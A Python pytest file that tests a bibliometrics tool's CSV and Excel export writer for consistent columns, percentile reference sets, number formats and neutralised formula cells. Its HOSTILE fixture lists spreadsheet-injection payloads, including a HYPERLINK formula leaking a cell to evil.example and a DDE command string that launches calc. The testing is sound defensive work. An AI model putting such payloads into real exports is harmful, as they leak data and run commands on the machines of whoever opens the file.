"""One export writer for every download: CLI, Upload and the Portfolio page's table downloads.

Formula cells neutralised everywhere, the same columns and corrections, a CSV that opens as a table,
a README (sheet and sidecar) with the reference sets, and spreadsheet number formats that say what
a column holds.
"""

from __future__ import annotations

import io
import re
import zipfile

import fastexcel
import polars as pl
import pytest

from lib import exports, store
from lib.ingest.imports import import_file
from lib.ui.portfolio_exports import _table_export
from tests import portfolio_seed as seed

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


@pytest.fixture
def cache(tmp_path):
    db = tmp_path / "c.duckdb"
    with store.connect(db) as con:
        seed.seed(con)
        _seed_reference_works(con, 2020, 40)  # a cohort large enough to be given percentiles
    upload = tmp_path / "scopus.csv"
    rows = [
        f'10.9999/hostile.{i},"{t.replace(chr(34), chr(34) * 2)}",2012,J X'
        for i, t in enumerate(HOSTILE)
    ]
    upload.write_text("DOI,Title,Year,Source title\n" + "\n".join(rows) + "\n")
    with store.connect(db) as con:
        import_file(con, upload, "Hostile")
    return db


def _seed_reference_works(con, year, n):
    keys = [f"10.7777/ref.{i}" for i in range(n)]
    store.upsert_works(con, pl.DataFrame({"key": keys, "doi": keys, "year": [year] * n}))
    store.replace_observations(
        con,
        pl.DataFrame(
            {
                "key": keys,
                "source": "openalex",
                "metric": "citations_openalex",
                "value": [float(i * 3 % 17) for i in range(n)],
                "as_of": seed.AS_OF,
            }
        ),
    )


def download(db, collection, fmt, keys=None):
    with store.connect(db) as con:
        keys = keys if keys is not None else store.collection_keys(con, collection)
    return _table_export(str(db), collection, fmt, tuple(keys), None, "{}")


def test_portfolio_csv_neutralises_formulas_and_opens_as_a_table(cache):
    text = download(cache, "Hostile", "csv").decode()
    assert not text.startswith("#") and text.splitlines()[0].startswith("input,key,doi")
    frame = pl.read_csv(io.StringIO(text))  # no comment lines to skip
    assert frame.height == len(HOSTILE)
    risky = [t for t in frame["title"].to_list() if re.match(r"[=+\-@\t\r]", t)]
    assert risky == [], risky
    assert frame["title"][0].startswith("'=HYPERLINK")


def test_portfolio_xlsx_has_no_live_formula_and_a_readme_sheet(cache):
    data = download(cache, "Hostile", "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = "".join(
            book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in sheets and "<f " not in sheets
    reader = fastexcel.read_excel(data)
    assert reader.sheet_names == ["Data", exports.README_SHEET]
    works = reader.load_sheet("Data").to_polars()
    assert works["title"].str.starts_with("'").all()
    readme = reader.load_sheet(exports.README_SHEET, header_row=None).to_polars()
    lines = [" ".join(str(v) for v in row if v) for row in readme.rows()]
    assert any("Percentile among 2012 works in this cache" in line for line in lines), lines


def test_readme_sidecar_names_the_reference_sets(cache):
    text = download(cache, seed.FETCHED, "readme").decode()
    assert "Reference set (attention)" in text and "Reference set (citations)" in text
    assert "works in this cache" in text


def test_percentile_columns_name_their_reference_set_and_are_rounded(cache):
    frame = pl.read_csv(io.BytesIO(download(cache, seed.FETCHED, "csv")))
    for column in (
        "attention_percentile",
        "attention_percentile_reference_set",
        "citations_percentile",
        "citations_percentile_reference_set",
        "author_position",
        "quadrant",
    ):
        assert column in frame.columns
    values = frame["citations_percentile"].drop_nulls()
    assert values.len() and (values == values.round(1)).all()


def _cell_formats(data: bytes) -> dict[str, str]:
    """column name -> number format code of its data cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        styles = book.read("xl/styles.xml").decode()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    codes = {
        m.group(1): m.group(2).replace("&quot;", '"')
        for m in re.finditer(r'<numFmt numFmtId="(\d+)" formatCode="([^"]*)"', styles)
    }
    codes |= {"0": "General", "1": "0", "2": "0.00", "3": "#,##0", "4": "#,##0.00"}
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S).group(1)
    xf_formats = [re.search(r'numFmtId="(\d+)"', x).group(1) for x in re.findall(r"<xf [^>]*", xfs)]
    header = re.findall(r'<c r="([A-Z]+)1"[^>]*><is><t[^>]*>([^<]*)</t>', sheet)
    header = header or [
        (c, t) for c, t in re.findall(r'<c r="([A-Z]+)1"[^>]*t="s"[^>]*><v>(\d+)</v>', sheet)
    ]
    columns = dict(re.findall(r'<col min="(\d+)" max="\d+"[^>]*style="(\d+)"', sheet))
    names = fastexcel.read_excel(data).load_sheet("Data").to_polars().columns
    return {
        name: codes.get(xf_formats[int(columns[str(i + 1)])], "?")
        for i, name in enumerate(names)
        if str(i + 1) in columns
    }


def test_spreadsheet_formats_years_plain_counts_whole_ratios_and_percentiles(cache):
    data = download(cache, seed.FETCHED, "xlsx")
    formats = _cell_formats(data)
    assert formats["year"] == "0"
    assert formats["citations"] == "#,##0" and formats["citations_openalex"] == "#,##0"
    assert formats["citations_percentile"] == "0.0" and formats["attention_percentile"] == "0.0"
    if "rcr" in formats:
        assert formats["rcr"] == "0.00"
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    values = re.findall(r"<v>([^<]*)</v>", sheet)
    assert not [v for v in values if float(v) != round(float(v), 2)], "no float noise is stored"
    assert "40" in values and "40.0" not in values  # a count is stored as a whole number


def test_cli_export_and_portfolio_download_agree_after_a_removal(cache, tmp_path):
    with store.connect(cache) as con:
        store.correct_item(con, seed.FETCHED, "10.1234/b.2", excluded=True)
        store.correct_item(con, seed.FETCHED, "pmid:123456", author_position="corresponding")
        out = exports.export_collection(con, seed.FETCHED, "csv", tmp_path / "cli.csv")
    cli = pl.read_csv(out)
    sidecar = (tmp_path / "cli.README.txt").read_text()
    assert "Reference set (citations)" in sidecar and "Collection" in sidecar
    page = pl.read_csv(io.BytesIO(download(cache, seed.FETCHED, "csv")))
    assert cli.columns == page.columns
    assert cli["key"].to_list() == page["key"].to_list() == ["10.1234/a.1", "pmid:123456"]
    assert cli["author_position"].to_list() == ["first", "corresponding"]
    assert cli.equals(page)
